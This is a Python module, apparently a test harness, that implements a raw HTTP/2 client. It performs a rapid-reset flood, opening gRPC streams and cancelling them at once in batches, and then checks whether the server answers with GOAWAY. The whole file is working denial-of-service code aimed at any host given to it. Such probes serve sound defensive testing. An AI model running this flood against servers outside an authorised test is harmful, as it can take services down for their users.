"""A raw HTTP/2 client for the abuse probes of HTTP/2's limits (no h2 library is pinned).

It writes just enough of RFC 9113 and RFC 7541 (literal headers, no Huffman coding) to open
gRPC streams and reset them, the way a rapid-reset attacker does, and reads what the server
sends back (GOAWAY above all).
"""

from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _length(n: int) -> bytes:  # an HPACK integer with a 7-bit prefix, no Huffman flag
    if n < 127:
        return bytes([n])
    out, n = bytearray([127]), n - 127
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def header_block(path: str, authority: str) -> bytes:
    """:method POST, :scheme http (static table), then literals without indexing."""
    block = bytearray(b"\x83\x86")
    for name, value in (
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ):
        block += b"\x00" + _length(len(name)) + name.encode() + _length(len(value)) + value.encode()
    return bytes(block)


@dataclass
class Connection:
    """One HTTP/2 connection: ``reset_flood`` opens and at once resets streams."""

    host: str
    port: int
    sock: socket.socket = field(init=False)
    received: bytearray = field(default_factory=bytearray)
    next_stream: int = 1
    _acked: int = 0  # bytes of ``received`` already parsed for frames to acknowledge

    def __post_init__(self) -> None:
        self.sock = socket.create_connection((self.host, self.port), timeout=10)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def reset_flood(self, pairs: int, path: str, seconds: float = 30.0, reset: bool = True) -> int:
        """Send up to ``pairs`` HEADERS + RST_STREAM(CANCEL) pairs (only HEADERS, the streams
        left open and idle, when not ``reset``), stopping when the server closes the
        connection or after ``seconds``; returns how many went out."""
        block = header_block(path, f"{self.host}:{self.port}")
        until = time.monotonic() + seconds
        sent = 0
        self.sock.setblocking(False)
        try:
            while sent < pairs and time.monotonic() < until:
                batch, count = bytearray(), min(100, pairs - sent)
                for _ in range(count):
                    s = self.next_stream
                    self.next_stream += 2
                    batch += frame(HEADERS, END_HEADERS, s, block)
                    if reset:
                        batch += frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
                view = memoryview(bytes(batch))
                while view and time.monotonic() < until:
                    self._drain()
                    try:
                        view = view[self.sock.send(view) :]
                    except BlockingIOError:
                        time.sleep(0.001)
                if view:
                    break
                sent += count
        except (BrokenPipeError, ConnectionResetError):
            pass
        return sent

    def hold(self) -> bool:
        """Read and acknowledge what the server sent, without waiting; False once closed."""
        self.sock.setblocking(False)
        try:
            self._drain()
        except ConnectionResetError:
            return False
        return True

    def _drain(self) -> None:
        while True:
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                raise ConnectionResetError from None
            if not data:
                raise ConnectionResetError
            self.received += data
            self._acknowledge()

    def _acknowledge(self) -> None:
        """ACK the server's SETTINGS and PINGs (a server closes a connection that never does)."""
        for kind, flags, _, payload in self._parse(self.received[self._acked :]):
            self._acked += 9 + len(payload)
            if kind == SETTINGS and not flags & ACK:
                self.sock.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.sock.sendall(frame(PING, ACK, 0, payload))

    def frames(self, wait_s: float = 2.0) -> list[tuple[int, int, int, bytes]]:
        """Every frame the server sent (kind, flags, stream, payload), reading up to
        ``wait_s`` more for what is still on its way."""
        self.sock.settimeout(wait_s)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                self.received += data
        except (TimeoutError, OSError):
            pass
        return self._parse(self.received)

    @staticmethod
    def _parse(data: bytes | bytearray) -> list[tuple[int, int, int, bytes]]:
        out, at = [], 0
        while len(data) - at >= 9:
            n = int.from_bytes(data[at : at + 3], "big")
            if len(data) - at < 9 + n:
                break
            stream = int.from_bytes(data[at + 5 : at + 9], "big") & 0x7FFFFFFF
            out.append((data[at + 3], data[at + 4], stream, bytes(data[at + 9 : at + 9 + n])))
            at += 9 + n
        return out

    def goaway(self, wait_s: float = 2.0) -> tuple[int, bytes] | None:
        """The GOAWAY the server sent (error code, debug data), if any."""
        for kind, _, _, payload in self.frames(wait_s):
            if kind == GOAWAY:
                return int.from_bytes(payload[4:8], "big"), payload[8:]
        return None

    def close(self) -> None:
        self.sock.close()
